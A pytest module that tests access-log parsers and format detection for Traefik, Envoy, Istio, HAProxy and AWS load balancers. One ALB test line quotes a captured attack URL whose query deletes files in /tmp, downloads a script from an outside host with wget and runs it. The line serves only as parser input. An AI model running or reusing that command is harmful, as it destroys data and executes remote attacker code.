"""Gateway text formats (Traefik CLF, Envoy, HAProxy, AWS ALB / Classic ELB): against peer
fixtures (Filebeat, Logstash, Datadog), detection, and hand-written lines."""

from __future__ import annotations

import datetime as dt
import gzip
from pathlib import Path
from typing import Any

import polars as pl
import pytest

from conflictlens.ingest.formats import detect_format, get_format
from conflictlens.ingest.formats.clf import PRESETS
from conflictlens.ingest.formats.fields import NO_REQUEST, NO_RESPONSE, PARSED_COLUMNS
from conflictlens.ingest.formats.gateways import GATEWAY_FORMATS
from conflictlens.ingest.lines import Chunk, split_lines
from tests.helpers import cli_json
from tests.peer_fixtures import (
    FIXTURES,
    check_line,
    expectations,
    file_cases,
    fixture_frame,
    line_cases,
    needs_fixtures,
    parsed_fixture,
    require_fixtures,
)

ROOT = Path(__file__).resolve().parents[1]

# The format each fixture file must be detected as.
FIXTURE_FORMATS = {
    "traefik": "traefik-clf",
    "haproxy": "haproxy-httplog",
    "envoy": "envoy-text",
    "aws_elb": "aws-elb-classic",
}

# Fixture lines these parsers are known to get wrong, with the reason: (file, line) -> reason.
KNOWN_FAILURES: dict[tuple[str, int], str] = {}


# --- helpers -------------------------------------------------------------------------------------


def frame_of(lines: list[str]) -> pl.DataFrame:
    """Lines as the pipeline frames them: each with its trailing newline, and its offset."""
    data = "".join(f"{line}\n" for line in lines).encode()
    return split_lines(Chunk(data, 0, len(data), 0)).lines


def parse_lines(fmt_name: str, *lines: str) -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = get_format(fmt_name).parse(frame_of(list(lines))).to_dicts()
    return rows


def parse_line(fmt_name: str, line: str) -> dict[str, Any]:
    [row] = parse_lines(fmt_name, line)
    return row


def event(fmt_name: str, line: str) -> dict[str, Any]:
    row = parse_line(fmt_name, line)
    assert row["reject"] is None, row["reject"]
    return row


# --- (1) peer fixtures in ../shared/fixtures -----------------------------------------------------


def test_every_gateway_fixture_folder_has_files():
    require_fixtures()
    for folder in FIXTURE_FORMATS:
        assert list((FIXTURES / folder).glob("*.log")), folder


@pytest.mark.parametrize("name", file_cases(FIXTURE_FORMATS))
def test_fixture_line_counts_match_their_expectations(name: str):
    data = (FIXTURES / f"{name}.log").read_bytes()
    assert fixture_frame(name).height == data.count(b"\n") == len(expectations(name))
    assert [e["line"] for e in expectations(name)] == list(range(1, len(expectations(name)) + 1))


@pytest.mark.parametrize("name", file_cases(FIXTURE_FORMATS))
def test_fixture_file_is_detected(name: str):
    parsed, fmt, error = parsed_fixture(name)
    assert parsed is not None, f"format detection failed for {name}: {error}"
    assert fmt == FIXTURE_FORMATS[name.split("/")[0]]


@pytest.mark.parametrize(("name", "number"), line_cases(FIXTURE_FORMATS, KNOWN_FAILURES))
def test_peer_fixture_line(name: str, number: int):
    fields = ("status", "method", "path", "query", "client", "bytes", "user_agent")
    row = check_line(name, number, fields)
    expected = expectations(name)[number - 1]
    if row is not None and expected["duration_s"] is not None:
        assert row["latency_ms"] == pytest.approx(expected["duration_s"] * 1000), "duration_s"


# --- (2) detection ---------------------------------------------------------------------------------

TRAEFIK_LINE = (
    '10.0.0.1 - - [20/Nov/2026:10:00:00 +0000] "PUT /api/v1/users/1 HTTP/1.1" 409 12 "-" '
    '"curl/8.5.0" 42 "users@docker" "http://172.19.0.3:8080" 7ms'
)
ENVOY_LINE = (
    '[2026-11-20T10:00:00.123Z] "PUT /api/v1/users/1?x=1 HTTP/1.1" 409 - 154 12 7 6 '
    '"203.0.113.9" "curl/8.5.0" "cc21d9b0-cf5c-432b-8c7e-98aeb7988cd2" "api.example.com" '
    '"10.0.2.1:80" "VERSION_MISMATCH"'
)
HAPROXY_LINE = (
    "Nov 20 10:00:01 lb1 haproxy[22021]: 203.0.113.9:55480 [20/Nov/2026:10:00:00.123] "
    "public~ be_api/api1 0/0/1/5/7 409 299 - - ---- 14/12/10/2/0 0/0 "
    '{api.example.com|-} {VERSION_MISMATCH|application/json} "PUT /api/v1/users/1 HTTP/1.1"'
)
ALB_LINE = (
    "https 2026-11-20T10:00:00.123456Z app/my-lb/50dc6c495c0c9188 203.0.113.9:2817 "
    "10.0.0.5:8080 0.001 0.020 0.000 409 409 233 390 "
    '"PUT https://api.example.com:443/api/v1/users/1?x=1 HTTP/2.0" "curl/8.5.0" '
    "ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:eu-west-1:1:targetgroup/t/1 "
    '"Root=1-58337262-36d228ad5d99923122bbe354" "api.example.com" "-" 0 '
    '2026-11-20T10:00:00.100000Z "forward" "-" "-" "10.0.0.5:8080" "409" "-" "-" TID_1'
)
ELB_LINE = (
    "2026-11-20T10:00:00.123456Z my-lb 203.0.113.9:2817 10.0.0.5:8080 0.000086 0.001048 "
    '0.001337 409 409 0 57 "PUT https://api.example.com:443/api/v1/users/1 HTTP/1.1" '
    '"curl/8.5.0" DHE-RSA-AES128-SHA TLSv1.2'
)
# The first line of Istio's docs (tests/fixtures/real/istio_default.log), with this module's
# request and status.
ISTIO_LINE = (
    '[2020-11-25T21:26:18.409Z] "PUT /api/v1/users/1 HTTP/1.1" 409 - via_upstream - "-" 0 135 4 '
    '4 "-" "curl/7.73.0-DEV" "84961386-6d84-929d-98bd-c5aee93b5c88" "httpbin:8000" '
    '"10.44.1.27:80" outbound|8000||httpbin.foo.svc.cluster.local 10.44.1.23:37652 '
    "10.0.45.184:8000 10.44.1.23:46520 - default"
)
# envoy-text reads Istio's lines too (as it did before istio-text was named); detection
# prefers istio-text, which declares no error-code field.
READS_TOO = {("envoy-text", "istio-text")}
# ingress-nginx's upstreaminfo, shaped as the first line of Filebeat's ingress_controller test
# log (tests/fixtures/real/corpus/part-A/ingress-nginx), with this module's request and status.
INGRESS_NGINX_LINE = (
    '192.168.64.1 - - [07/Feb/2020:11:48:51 +0000] "PUT /api/v1/users/1 HTTP/1.1" 409 59 "-" '
    '"curl/7.54.0" 89 0.001 [default-web-8080] [] 172.17.0.5:8080 59 0.000 409 '
    "529a007902362a5f51385a5fa7049884"
)
GATEWAY_LINES = {
    "traefik-clf": TRAEFIK_LINE,
    "ingress-nginx": INGRESS_NGINX_LINE,
    "istio-text": ISTIO_LINE,
    "envoy-text": ENVOY_LINE,
    "haproxy-httplog": HAPROXY_LINE,
    "aws-alb": ALB_LINE,
    "aws-elb-classic": ELB_LINE,
}


def test_every_gateway_format_is_registered_in_detection_order():
    assert list(GATEWAY_FORMATS) == list(GATEWAY_LINES)
    for name, fmt in GATEWAY_FORMATS.items():
        assert fmt.name == name
        assert get_format(name) is fmt


@pytest.mark.parametrize(("name", "line"), GATEWAY_LINES.items(), ids=list(GATEWAY_LINES))
def test_detect_gateway_format(name: str, line: str):
    frame = frame_of([line] * 3)
    fmt = detect_format(frame)
    assert fmt.name == name
    assert fmt.parse(frame)["reject"].null_count() == 3


@pytest.mark.parametrize(("name", "line"), GATEWAY_LINES.items(), ids=list(GATEWAY_LINES))
def test_gateway_output_has_every_parsed_column(name: str, line: str):
    parsed = get_format(name).parse(frame_of([line]))
    for column, dtype in PARSED_COLUMNS.items():
        assert parsed.schema[column] == dtype, column
    assert {"line", "offset", "reject"} <= set(parsed.columns)
    row = parsed.row(0, named=True)
    assert (row["reject"], row["status"], row["method"]) == (None, 409, "PUT")
    assert row["path"] == "/api/v1/users/1"
    assert row["line"] == line + "\n" and row["offset"] == 0


@pytest.mark.parametrize(("name", "line"), GATEWAY_LINES.items(), ids=list(GATEWAY_LINES))
def test_gateway_formats_reject_each_others_lines(name: str, line: str):
    for other in GATEWAY_FORMATS:
        if other != name and (other, name) not in READS_TOO:
            assert parse_line(other, line)["reject"] is not None, other


def clf_sample_logs() -> list[Path]:
    """The sample logs of the CLF presets (sample_logs/nginx-combined.log ...)."""
    return [p for p in sorted((ROOT / "sample_logs").glob("*.log")) if p.stem in PRESETS]


def plain_clf_files() -> list[Any]:
    files = clf_sample_logs()
    if not FIXTURES.is_dir():  # the samples still run; the missing fixtures are said
        return [
            *(pytest.param(f, id=f"{f.parent.name}/{f.name}") for f in files),
            pytest.param(Path(), marks=needs_fixtures, id="fixtures-missing"),
        ]
    files += sorted((FIXTURES / "nginx").glob("*.log")) + sorted(
        (FIXTURES / "apache").glob("*.log")
    )
    return [pytest.param(f, id=f"{f.parent.name}/{f.name}") for f in files]


@pytest.mark.parametrize("path", plain_clf_files())
def test_gateway_formats_accept_no_plain_nginx_or_apache_line(path: Path):
    data = path.read_bytes()
    lines = split_lines(Chunk(data, 0, len(data), 0)).lines
    for name, fmt in GATEWAY_FORMATS.items():
        accepted = fmt.parse(lines).filter(pl.col("reject").is_null())
        assert accepted.height == 0, f"{name} accepts {accepted['line'][0]!r}"


@pytest.mark.parametrize("path", [pytest.param(p, id=p.name) for p in clf_sample_logs()])
def test_sample_logs_are_detected_as_their_own_format(path: Path):
    data = path.read_bytes()
    lines = split_lines(Chunk(data, 0, len(data), 0)).lines
    assert detect_format(lines).name == path.stem


# --- (3) Traefik ---------------------------------------------------------------------------------


def test_traefik_409_maps_router_server_and_duration():
    row = event("traefik-clf", TRAEFIK_LINE)
    assert row["ts"] == dt.datetime(2026, 11, 20, 10, 0, 0)
    assert (row["service"], row["upstream"]) == (
        "users@docker",
        "172.19.0.3:8080",
    )  # the server URL's address
    assert row["latency_ms"] == pytest.approx(7.0)
    assert (row["client"], row["bytes"], row["user_agent"]) == ("10.0.0.1", 12, "curl/8.5.0")
    assert row["error_code"] is None


def test_traefik_unescaped_quote_in_user_agent():
    # traefik/traefik issue #11722
    line = (
        '127.0.0.1 - - [28/Apr/2025:00:22:33 +0000] "GET / HTTP/2.0" 200 659 "-" "foo " bar" '
        '116 "example@file" "http://127.0.0.1:3001" 1ms'
    )
    row = event("traefik-clf", line)
    assert row["user_agent"] == 'foo " bar'
    assert (row["status"], row["bytes"], row["path"]) == (200, 659, "/")
    assert (row["service"], row["upstream"], row["latency_ms"]) == (
        "example@file",
        "127.0.0.1:3001",
        1.0,
    )


def test_traefik_unescaped_quotes_in_referrer_and_user_agent():
    line = (
        '10.0.0.1 - - [20/Nov/2026:10:00:00 +0000] "PUT /a/1 HTTP/1.1" 409 5 "http://x/"q"" '
        '"say "hi" "there"" 3 "r@file" "http://10.0.0.2:80" 12ms'
    )
    row = event("traefik-clf", line)
    assert (row["status"], row["path"], row["service"]) == (409, "/a/1", "r@file")
    assert row["user_agent"] == 'say "hi" "there"'


def test_traefik_status_dash_is_a_reject_that_says_no_response_was_sent():
    line = '::1 - - [15/Apr/2024:13:04:10 +0000] "GET / HTTP/1.1" - - "-" "-" 27 "-" "-" 0ms'
    assert parse_line("traefik-clf", line)["reject"] == NO_RESPONSE


def test_traefik_bare_dash_referrer():
    line = (
        '10.0.0.1 - - [28/Feb/2018:17:30:33 +0000] "GET /en/ HTTP/2.0" 200 2814 - "Android" '
        '13 "Host-host1-com-0" "http://172.19.0.6:14008" 247ms'
    )
    row = event("traefik-clf", line)
    assert (row["status"], row["user_agent"], row["latency_ms"]) == (200, "Android", 247.0)


def test_traefik_plain_clf_line_only_among_traefik_lines():
    plain = '127.0.0.1 - frank [10/Oct/2000:13:55:36 -0700] "GET /apache_pb.gif HTTP/1.0" 200 2326'
    rows = parse_lines("traefik-clf", TRAEFIK_LINE, TRAEFIK_LINE, plain)
    assert [r["reject"] for r in rows] == [None, None, None]
    assert (rows[2]["status"], rows[2]["path"], rows[2]["latency_ms"]) == (
        200,
        "/apache_pb.gif",
        None,
    )
    assert rows[2]["ts"] == dt.datetime(2000, 10, 10, 20, 55, 36)
    # on its own, or among mostly plain lines, it is not a Traefik line
    assert parse_line("traefik-clf", plain)["reject"] == "does not match the traefik-clf format"
    rows = parse_lines("traefik-clf", TRAEFIK_LINE, plain, plain)
    assert [r["reject"] is None for r in rows] == [True, False, False]


# --- (3) Envoy -----------------------------------------------------------------------------------


def test_envoy_409_with_error_code_field():
    row = event("envoy-text", ENVOY_LINE)
    assert row["ts"] == dt.datetime(2026, 11, 20, 10, 0, 0, 123000)
    assert (row["method"], row["path"], row["query"]) == ("PUT", "/api/v1/users/1", "x=1")
    assert (row["status"], row["bytes"], row["latency_ms"]) == (409, 12, 7.0)
    assert row["error_code"] == "VERSION_MISMATCH"
    assert (row["client"], row["user_agent"]) == ("203.0.113.9", "curl/8.5.0")
    assert row["request_id"] == "cc21d9b0-cf5c-432b-8c7e-98aeb7988cd2"
    assert (row["service"], row["upstream"]) == ("api.example.com", "10.0.2.1:80")


def test_envoy_dash_error_code_and_no_error_code_field():
    dash = ENVOY_LINE.replace('"VERSION_MISMATCH"', '"-"')
    without = ENVOY_LINE.replace(' "VERSION_MISMATCH"', "")
    for line in (dash, without):
        row = event("envoy-text", line)
        assert (row["status"], row["error_code"], row["upstream"]) == (409, None, "10.0.2.1:80")


def test_envoy_default_doc_example_and_access_prefix():
    line = (
        '[2016-04-15T20:17:00.310Z] "POST /api/v1/locations HTTP/2" 204 - 154 0 226 100 '
        '"10.0.35.28" "nsq2http" "cc21d9b0-cf5c-432b-8c7e-98aeb7988cd2" "locations" "tcp://10.0.2.1:80"'
    )
    for prefix in ("", "ACCESS "):
        row = event("envoy-text", prefix + line)
        assert (row["status"], row["method"], row["path"], row["latency_ms"]) == (
            204,
            "POST",
            "/api/v1/locations",
            226.0,
        )
        assert (row["client"], row["service"], row["upstream"]) == (
            "10.0.35.28",
            "locations",
            "tcp://10.0.2.1:80",
        )


def test_envoy_tcp_line_is_a_reject_that_says_there_was_no_request():
    line = '[2019-04-08T16:50:12.533Z] "- - -" 0 UF,URX 87 254 4 - "-" "-" "-" "-" "172.27.0.2:80"'
    assert parse_line("envoy-text", line)["reject"] == NO_REQUEST


def test_envoy_request_without_response_is_a_reject_that_says_so():
    line = (
        '[2019-04-08T16:50:12.533Z] "PUT /api/v1/users/1 HTTP/1.1" 0 DC 87 0 4 - "-" "curl/8" '
        '"-" "-" "172.27.0.2:80"'
    )
    assert parse_line("envoy-text", line)["reject"] == NO_RESPONSE


@pytest.mark.parametrize(
    ("line", "status", "method", "path"),
    [
        (
            '[2022-06-22T10:27:00.362Z] "GET /status/418 HTTP/1.1" 418 - via_upstream - "-" 0 135 25 25 '
            '"-" "curl/7.83.1-DEV" "adc1465d-589f-9119-bdcf-2ea373ff7d7a" "httpbin:8000" "172.17.0.7:80" '
            "outbound|8000||httpbin.default.svc.cluster.local 172.17.0.6:57130 10.99.37.119:8000 "
            "172.17.0.6:50514 - default",
            418,
            "GET",
            "/status/418",
        ),
        (
            '[2022-09-01T13:15:09.085Z] "GET /reviews/0 HTTP/1.1" 503 UF '
            "upstream_reset_before_response_started{connection_failure,delayed_connect_error:_111} "
            '- "-" 0 145 0 - "-" "Mozilla/5.0 (Macintosh)" "56446678-64f3-9fbf-9c4a-eca01fafba4d" '
            '"reviews:9080" "10.124.2.14:9080" inbound|9080|| - 10.124.2.14:9080 10.124.1.6:48816 '
            "outbound_.9080_._.reviews.default.svc.cluster.local default",
            503,
            "GET",
            "/reviews/0",
        ),
        (
            '[2022-09-01T09:36:33.553Z] "- - HTTP/1.1" 400 DPE http1.codec_error - "-" 0 11 46 - "-" '
            '"-" "-" "-" "-" - - 10.124.2.10:8080 10.128.0.60:51643 - -',
            400,
            None,
            None,
        ),
    ],
)
def test_envoy_istio_lines(line, status, method, path):
    row = event("envoy-text", line)
    assert (row["status"], row["method"], row["path"]) == (status, method, path)
    assert row["ts"] is not None
    assert row["error_code"] is None


def test_envoy_raw_quotes_in_user_agent():
    line = ENVOY_LINE.replace('"curl/8.5.0"', '"curl "quoted" agent"')
    row = event("envoy-text", line)
    assert row["user_agent"] == 'curl "quoted" agent'
    assert (row["status"], row["error_code"], row["upstream"]) == (
        409,
        "VERSION_MISMATCH",
        "10.0.2.1:80",
    )
    assert row["request_id"] == "cc21d9b0-cf5c-432b-8c7e-98aeb7988cd2"


def test_envoy_application_log_line_is_rejected():
    line = (
        "[2021-03-12 15:31:30.492][1][warning][runtime] "
        "[source/common/runtime/runtime_features.cc:31] Unable to use runtime singleton"
    )
    assert parse_line("envoy-text", line)["reject"] == "does not match the envoy-text format"


# --- (3) HAProxy ---------------------------------------------------------------------------------


def test_haproxy_409_with_error_code_in_second_capture_block():
    row = event("haproxy-httplog", HAPROXY_LINE)
    assert row["ts"] == dt.datetime(2026, 11, 20, 10, 0, 0, 123000)  # accept date, as UTC
    assert (row["method"], row["path"], row["status"], row["bytes"]) == (
        "PUT",
        "/api/v1/users/1",
        409,
        299,
    )
    assert row["error_code"] == "VERSION_MISMATCH"
    assert (row["service"], row["upstream"], row["client"]) == ("be_api", "api1", "203.0.113.9")
    assert row["latency_ms"] == pytest.approx(7.0)


@pytest.mark.parametrize(
    ("captures", "code"),
    [
        ("", None),  # no capture block
        ("{api.example.com|-} ", None),  # one block: request or response headers? unknown
        ("{api.example.com|-} {-|application/json} ", None),
        ("{api.example.com|-} {|application/json} ", None),
        ("{api.example.com|-} {} ", None),
        ("{api.example.com} {EMAIL#7CTAKEN#20x} ", "EMAIL|TAKEN x"),
    ],
)
def test_haproxy_capture_blocks(captures, code):
    line = (
        "Nov 20 10:00:01 lb1 haproxy[22021]: 203.0.113.9:55480 [20/Nov/2026:10:00:00.123] "
        f"public~ be_api/api1 0/0/1/5/7 409 299 - - ---- 14/12/10/2/0 0/0 {captures}"
        '"PUT /api/v1/users/1 HTTP/1.1"'
    )
    row = event("haproxy-httplog", line)
    assert (row["status"], row["path"], row["error_code"]) == (409, "/api/v1/users/1", code)


def test_haproxy_hash_escapes_in_the_request_line_are_decoded():
    line = HAPROXY_LINE.replace(
        '"PUT /api/v1/users/1 HTTP/1.1"', '"PUT /api/v1/a#22b#23c?q=#22x#22 HTTP/1.1"'
    )
    row = event("haproxy-httplog", line)
    assert (row["path"], row["query"]) == ('/api/v1/a"b#c', 'q="x"')


def test_haproxy_badreq_is_an_event_without_request():
    line = (
        "Sep 29 08:33:00 localhost haproxy[14389]: 127.0.0.1:33317 [29/Sep/2025:08:33:00.277] "
        'f_foobar~ f_foobar/<NOSRV> -1/-1/-1/-1/0 400 0 - - CR-- 8/1/0/0/0 0/0 "<BADREQ>"'
    )
    row = event("haproxy-httplog", line)
    assert (row["status"], row["method"], row["path"]) == (400, None, None)
    assert (row["service"], row["upstream"], row["latency_ms"]) == ("f_foobar", None, 0.0)


@pytest.mark.parametrize(
    "header",
    [
        "",
        "Jul 30 09:03:52 localhost haproxy[32450]: ",
        "Feb  6 12:14:14 localhost haproxy[14389]: ",
        "<30>Jun 27 21:44:24 haproxy[22021]: ",
        "2021-12-15T16:55:18+01:00 host.example.com haproxy[20560]: ",
        "<134>1 2024-06-20T11:47:56.817934+02:00 - haproxy 266980 - - ",
    ],
)
def test_haproxy_syslog_headers(header):
    line = (
        f"{header}8.6.7.10:55480 [27/Jun/2019:21:43:53.199] public_ssl~ be_http/srva "
        '0/0/1/30989/30990 409 299 - - ---- 14/12/10/2/0 0/0 "PATCH /api/upload/4ddad61736a6 HTTP/1.1"'
    )
    row = event("haproxy-httplog", line)
    assert (row["status"], row["method"], row["client"]) == (409, "PATCH", "8.6.7.10")
    assert row["ts"] == dt.datetime(2019, 6, 27, 21, 43, 53, 199000)
    assert row["latency_ms"] == pytest.approx(30990.0)


@pytest.mark.parametrize(
    ("timers", "latency"),
    [("0/0/0/-1/63387", 63387.0), ("0/51536/1/48082/+99627", None), ("-1/-1/-1/-1/-1", None)],
)
def test_haproxy_timers(timers, latency):
    # also: several spaces before the status (the timers are padded)
    line = (
        "<30>Jun 27 21:43:42 haproxy[22021]: 8.6.7.10:55480 [27/Jun/2019:21:42:38.916] "
        f'public_ssl~ be_http/srva {timers}    504 +194 - - sH-- 15/13/10/0/0 0/0 "PATCH /x HTTP/1.1"'
    )
    row = event("haproxy-httplog", line)
    assert (row["status"], row["bytes"], row["latency_ms"]) == (504, 194, latency)


@pytest.mark.parametrize(
    ("client", "expected"),
    [
        ("-:47481", None),
        ("[2001:db8::1]:443", "2001:db8::1"),
        ("2001:db8::1:443", "2001:db8::1"),
        ("::1:8080", "::1"),
    ],
)
def test_haproxy_clients(client, expected):
    line = HAPROXY_LINE.replace("203.0.113.9:55480", client)
    assert event("haproxy-httplog", line)["client"] == expected


def test_haproxy_extra_field_before_timers_and_tls_tail():
    line = (
        "Jun 22 12:02:59 node2 haproxy[23034]: -:47481 [22/Jun/2021:12:02:59.590] www-https~ "
        "app/node16 app.domain.com 0/0/3/32/35 409 142 - - ---- 1/1/0/0/0 0/0 "
        '{|Mozilla/5.0} {E_CONFLICT} "PUT /app/event/ HTTP/1.1" TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256'
    )
    row = event("haproxy-httplog", line)
    assert (row["status"], row["path"], row["latency_ms"]) == (409, "/app/event/", 35.0)
    assert (row["service"], row["upstream"], row["error_code"]) == ("app", "node16", "E_CONFLICT")


def test_haproxy_request_line_cut_at_the_length_limit():
    line = HAPROXY_LINE.replace('"PUT /api/v1/users/1 HTTP/1.1"', '"GET /' + "s" * 1020)
    row = event("haproxy-httplog", line)
    assert (row["method"], row["path"]) == ("GET", "/" + "s" * 1020)


def test_haproxy_status_minus_one_is_no_response():
    line = HAPROXY_LINE.replace(" 409 299 ", " -1 0 ")
    assert parse_line("haproxy-httplog", line)["reject"] == NO_RESPONSE


# --- (3) AWS load balancers ----------------------------------------------------------------------


def test_alb_409_path_from_the_full_url_and_latency_sum():
    row = event("aws-alb", ALB_LINE)
    assert row["ts"] == dt.datetime(2026, 11, 20, 10, 0, 0, 123456)
    assert (row["method"], row["path"], row["query"]) == ("PUT", "/api/v1/users/1", "x=1")
    assert (row["status"], row["bytes"]) == (409, 390)
    assert row["latency_ms"] == pytest.approx(21.0)
    assert (row["client"], row["upstream"], row["user_agent"]) == (
        "203.0.113.9",
        "10.0.0.5:8080",
        "curl/8.5.0",
    )
    assert row["error_code"] is None


def test_alb_minus_one_timers_and_url_with_spaces():
    # elastic/integrations test-alb.log (classification SpaceInUri)
    line = (
        "http 2022-05-12T06:41:29.051646Z app/admin-LoadB-1EGHQRJIOLMFR/3011821a43ee0c5e "
        '67.43.156.20:41542 - -1 -1 -1 301 - 233 390 "GET http://127.0.0.1:80/shell?cd+/tmp;'
        'rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1" "Hello, world" - - - '
        '"Root=1-627cac19-4c6df30820daa80e3fd72ced" "-" "-" 0 2022-05-12T06:41:29.051000Z '
        '"redirect" "https://127.0.0.1:443/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;'
        'sh+/tmp/jaws" "-" "-" "-" "Acceptable" "SpaceInUri"'
    )
    row = event("aws-alb", line)
    assert (row["status"], row["method"], row["path"]) == (301, "GET", "/shell")
    assert row["query"] == "cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws"
    assert (row["latency_ms"], row["upstream"], row["user_agent"]) == (None, None, "Hello, world")
    assert row["ts"] == dt.datetime(2022, 5, 12, 6, 41, 29, 51646)


@pytest.mark.parametrize(
    ("line", "status", "method", "path", "latency"),
    [
        (
            "http 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 "
            '10.0.0.1:80 0.000 0.001 0.000 200 200 34 366 "GET http://www.example.com:80/ HTTP/1.1" '
            '"curl/7.46.0" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/'
            '73e2d6bc24d8a067 "Root=1-58337262-36d228ad5d99923122bbe354" "-" "-" 0 '
            '2018-07-02T22:22:48.364000Z "forward" "-" "-"',
            200,
            "GET",
            "/",
            1.0,
        ),
        (
            "http 2018-11-30T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 "
            '- -1 -1 -1 400 - 0 0 "- http://www.example.com:80- -" "-" - - - "-" "-" "-" 0 '
            '2018-11-30T22:22:48.364000Z "-" "-" "-"',
            400,
            None,
            None,
            None,
        ),
        (
            "h2 2018-11-30T22:23:00.186641Z app/x/1 [2001:db8::1]:2817 10.0.0.1:80 0.000 0.001 0.000 "
            '409 409 34 366 "PATCH https://www.example.com:443/v1/a/1 HTTP/2.0" "my "quoted" ua" '
            "ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn",
            409,
            "PATCH",
            "/v1/a/1",
            1.0,
        ),
    ],
)
def test_alb_lines(line, status, method, path, latency):
    row = event("aws-alb", line)
    assert (row["status"], row["method"], row["path"], row["latency_ms"]) == (
        status,
        method,
        path,
        latency,
    )


def test_classic_elb_409_latency_sum_and_backend():
    row = event("aws-elb-classic", ELB_LINE)
    assert (row["status"], row["method"], row["path"]) == (409, "PUT", "/api/v1/users/1")
    assert row["latency_ms"] == pytest.approx(0.000086 * 1000 + 1.048 + 1.337)
    assert (row["client"], row["upstream"], row["bytes"]) == ("203.0.113.9", "10.0.0.5:8080", 57)
    assert row["ts"] == dt.datetime(2026, 11, 20, 10, 0, 0, 123456)


# --- (3) reject reasons --------------------------------------------------------------------------


@pytest.mark.parametrize("name", list(GATEWAY_LINES))
@pytest.mark.parametrize("garbage", ["hello world", '{"json": true}', "- - - - - - - - - -"])
def test_garbage_is_rejected_with_a_reason(name: str, garbage: str):
    assert parse_line(name, garbage)["reject"] == f"does not match the {name} format"


@pytest.mark.parametrize("name", list(GATEWAY_LINES))
def test_empty_line_is_rejected(name: str):
    rows = parse_lines(name, GATEWAY_LINES[name], "")
    assert [r["reject"] for r in rows] == [None, "empty line"]


@pytest.mark.parametrize(
    ("name", "line", "reason"),
    [
        ("traefik-clf", TRAEFIK_LINE.replace("20/Nov/2026", "32/Nov/2026"), "invalid timestamp"),
        ("traefik-clf", TRAEFIK_LINE.replace(" 409 ", " 999 "), "invalid status"),
        ("envoy-text", ENVOY_LINE.replace("2026-11-20T", "2026-13-20T"), "invalid timestamp"),
        ("envoy-text", ENVOY_LINE.replace(" 409 ", " 42 "), "invalid status"),
        (
            "haproxy-httplog",
            HAPROXY_LINE.replace("20/Nov/2026", "31/Nov/2026"),
            "invalid timestamp",
        ),
        ("haproxy-httplog", HAPROXY_LINE.replace(" 409 ", " 1409 "), "invalid status"),
        ("aws-alb", ALB_LINE.replace("2026-11-20T10", "2026-11-20T25"), "invalid timestamp"),
        ("aws-alb", ALB_LINE.replace(" 409 409 ", " 700 409 "), "invalid status"),
        (
            "aws-elb-classic",
            ELB_LINE.replace("2026-11-20T10", "2026-11-31T10"),
            "invalid timestamp",
        ),
        (
            "aws-elb-classic",
            ELB_LINE.replace(" 409 409 ", " 0409x 409 "),
            "does not match the aws-elb-classic format",
        ),
    ],
)
def test_bad_values_are_rejected_with_a_reason(name: str, line: str, reason: str):
    assert parse_line(name, line)["reject"] == reason


# --- end to end: auto-detected import, error codes in the clusters --------------------------------


@pytest.mark.parametrize(
    ("name", "line", "code"),
    [
        ("aws-alb", ALB_LINE, None),
        ("haproxy-httplog", HAPROXY_LINE, "VERSION_MISMATCH"),
        ("envoy-text", ENVOY_LINE, "VERSION_MISMATCH"),
        ("traefik-clf", TRAEFIK_LINE, None),
    ],
)
def test_gzipped_gateway_log_imports_with_auto_detection(
    run_cli, db_path: Path, tmp_path: Path, name: str, line: str, code: str | None
):
    ok = line.replace(" 409 ", " 200 ", 1)
    log = tmp_path / f"{name}.log.gz"
    with gzip.open(log, "wb") as packed:
        packed.write("".join(f"{x}\n" for x in [line, ok, ok, line, ok]).encode())
    summary = cli_json(run_cli("ingest", "--db", db_path, "--json", log))
    assert summary["files"][0]["format"] == name
    assert (summary["lines"], summary["parsed"], summary["conflicts"]) == (5, 5, 2)
    result = cli_json(
        run_cli(
            "clusters", "--db", db_path, "--json", "--since", "2026-11-20", "--until", "2026-11-21"
        )
    )
    assert [(c["method"], c["status"], c["error_code"], c["conflicts"]) for c in result] == [
        ("PUT", 409, code, 2)
    ]


def test_a_bare_scheme_as_protocol_is_not_part_of_the_path():
    """Some Traefik builds write the scheme ("http") where the protocol goes."""
    line = (
        '10.0.0.1 - - [28/Feb/2018:17:30:33 +0000] "PUT /foo?x=1 http" 409 12 "-" "curl/8" '
        '3 "api@docker" "http://172.19.0.6:80" 5ms'
    )
    row = event("traefik-clf", line)
    assert (row["method"], row["path"], row["query"]) == ("PUT", "/foo", "x=1")


@pytest.mark.parametrize(
    ("logged", "client"),
    [
        ("2600:1f18:4a1:7f00:8d9:e1b:6e2f:a3e2:39162", "2600:1f18:4a1:7f00:8d9:e1b:6e2f:a3e2"),
        ("2001:db8::1:8080", "2001:db8::1"),  # the field always has a port: the last part
        ("[2001:db8::1:2]:443", "2001:db8::1:2"),
        ("198.51.100.7:2817", "198.51.100.7"),
        ("not-an-address:80", None),
    ],
)
def test_alb_client_is_the_address_without_its_port(logged: str, client: str | None):
    assert event("aws-alb", ALB_LINE.replace("203.0.113.9:2817", logged))["client"] == client
